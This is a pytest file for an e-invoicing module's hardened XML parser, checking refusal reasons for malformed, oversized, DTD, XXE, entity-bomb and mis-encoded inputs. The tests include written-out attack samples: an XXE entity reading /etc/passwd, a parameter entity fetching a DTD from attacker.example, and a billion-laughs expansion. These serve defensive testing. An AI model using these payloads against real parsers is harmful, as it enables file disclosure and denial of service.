"""The hardened parse: each hostile or broken XML gets its own reason and rule id."""

from __future__ import annotations

import pytest

from edi import samples
from edi.config import Limits
from edi.model import FlowError, Reason
from edi.validators import xml_safety

LIMITS = Limits()
UNDECLARED = "<note>Fran\u00e7ois, caf\u00e9</note>"
LATIN1_DECLARED = '<?xml version="1.0" encoding="ISO-8859-1"?>\n' + UNDECLARED
UTF8_DECLARED = '<?xml version="1.0" encoding="UTF-8"?>\n' + UNDECLARED


def refused(data: bytes, limits: Limits = LIMITS) -> FlowError:
    with pytest.raises(FlowError) as caught:
        xml_safety.parse(data, limits)
    return caught.value


def test_a_sample_invoice_parses() -> None:
    tree = xml_safety.parse(samples.ubl_invoice(), LIMITS)
    assert tree.getroot().tag.endswith("}Invoice")


@pytest.mark.parametrize("data", [b"", b"   \n\t  \r\n"])
def test_empty_is_irr_vide(data: bytes) -> None:
    err = refused(data)
    assert (err.reason, err.rule_id) == (Reason.IRR_VIDE_F, "EDI-EMPTY")


def test_malformed_gives_line_and_column() -> None:
    err = refused(b'<?xml version="1.0"?>\n<Invoice>\n  <ID>1</Id>\n</Invoice>\n')
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-MALFORMED")
    assert err.location.startswith("line 3, column")
    assert "Opening and ending tag mismatch" in err.message


def test_truncated_invoice_is_malformed() -> None:
    data = samples.cii_invoice()
    err = refused(data[: len(data) // 2])
    assert err.rule_id == "EDI-XML-MALFORMED"


def test_over_the_size_cap_is_irr_taille() -> None:
    err = refused(samples.ubl_invoice(), Limits(max_xml_bytes=4096))
    assert (err.reason, err.rule_id) == (Reason.IRR_TAILLE_F, "EDI-XML-SIZE")
    assert "4,096" in err.message


def test_plain_doctype_is_refused() -> None:
    err = refused(b'<?xml version="1.0"?>\n<!DOCTYPE Invoice SYSTEM "invoice.dtd">\n'
                  b"<Invoice/>")
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-DTD")
    assert err.location == "line 2"


def test_external_entity_is_refused_as_xxe() -> None:
    err = refused(b'<?xml version="1.0"?>\n<!DOCTYPE r [\n'
                  b'  <!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n<r>&secret;</r>')
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-XXE")


def test_parameter_entity_reaching_the_network_is_refused_as_xxe() -> None:
    err = refused(b'<!DOCTYPE r [<!ENTITY % remote PUBLIC "-//X//Y" '
                  b'"http://attacker.example/x.dtd"> %remote;]><r/>')
    assert err.rule_id == "EDI-XML-XXE"


def test_billion_laughs_is_refused_unexpanded() -> None:
    lol = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)]
    data = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + "\n".join(lol)
            + "\n]>\n<lolz>&lol9;</lolz>").encode()
    err = refused(data)
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-ENTITY")
    assert "10 entities" in err.message


def test_doctype_text_inside_a_comment_is_not_a_dtd() -> None:
    tree = xml_safety.parse(b"<r><!-- <!DOCTYPE x> is quoted here --></r>", LIMITS)
    assert tree.getroot().tag == "r"


@pytest.mark.parametrize("codec, bom", [("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")])
def test_utf16_with_true_declaration_is_accepted(codec: str, bom: bytes) -> None:
    text = samples.ubl_invoice().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    text = text.replace("Atelier Numerique", "Atelier Num\u00e9rique")
    tree = xml_safety.parse(bom + text.encode(codec), LIMITS)
    assert "Atelier Num\u00e9rique" in tree.getroot().findtext(".//{*}RegistrationName")


def test_utf16_bytes_declared_utf8_are_refused() -> None:
    data = b"\xff\xfe" + UTF8_DECLARED.encode("utf-16-le")
    err = refused(data)
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-ENCODING")
    assert "UTF-16-LE" in err.message and "UTF-8" in err.message


def test_8bit_bytes_declared_utf16_are_refused() -> None:
    err = refused(b'<?xml version="1.0" encoding="UTF-16"?>\n<note>x</note>')
    assert err.rule_id == "EDI-XML-ENCODING"
    assert "8-bit" in err.message


def test_latin1_with_true_declaration_is_accepted() -> None:
    tree = xml_safety.parse(LATIN1_DECLARED.encode("latin-1"), LIMITS)
    assert tree.getroot().text == "Fran\u00e7ois, caf\u00e9"


def test_latin1_bytes_declared_utf8_are_refused() -> None:
    err = refused(UTF8_DECLARED.encode("latin-1"))
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-ENCODING")
    assert err.location == "line 2, byte 49"
    assert "e7" in err.message and "ISO-8859-1" in err.message


def test_latin1_bytes_without_declaration_are_refused() -> None:
    err = refused(UNDECLARED.encode("latin-1"))
    assert err.rule_id == "EDI-XML-ENCODING"
    assert "default" in err.message


def test_utf8_bytes_declared_latin1_are_refused() -> None:
    err = refused(LATIN1_DECLARED.encode("utf-8"))
    assert err.rule_id == "EDI-XML-ENCODING"
    assert "UTF-8 sequences" in err.message


def test_utf8_bom_is_accepted_but_not_with_a_latin1_declaration() -> None:
    assert xml_safety.parse(b"\xef\xbb\xbf" + UTF8_DECLARED.encode(), LIMITS) is not None
    err = refused(b"\xef\xbb\xbf" + LATIN1_DECLARED.encode("latin-1"))
    assert err.rule_id == "EDI-XML-ENCODING"


@pytest.mark.parametrize("declared", ["Shift_JIS", "EBCDIC-CP-US", "no-such-charset"])
def test_other_encodings_are_refused_as_unsupported(declared: str) -> None:
    err = refused(f'<?xml version="1.0" encoding="{declared}"?><r/>'.encode())
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-ENCODING-UNSUPPORTED")
    assert declared in err.message


def test_utf32_is_refused_as_unsupported() -> None:
    err = refused(b"\xff\xfe\x00\x00" + "<r/>".encode("utf-32-le"))
    assert err.rule_id == "EDI-XML-ENCODING-UNSUPPORTED"


def test_predefined_and_character_references_still_work() -> None:
    tree = xml_safety.parse(b"<r>&amp;&#233;</r>", LIMITS)
    assert tree.getroot().text == "&\u00e9"
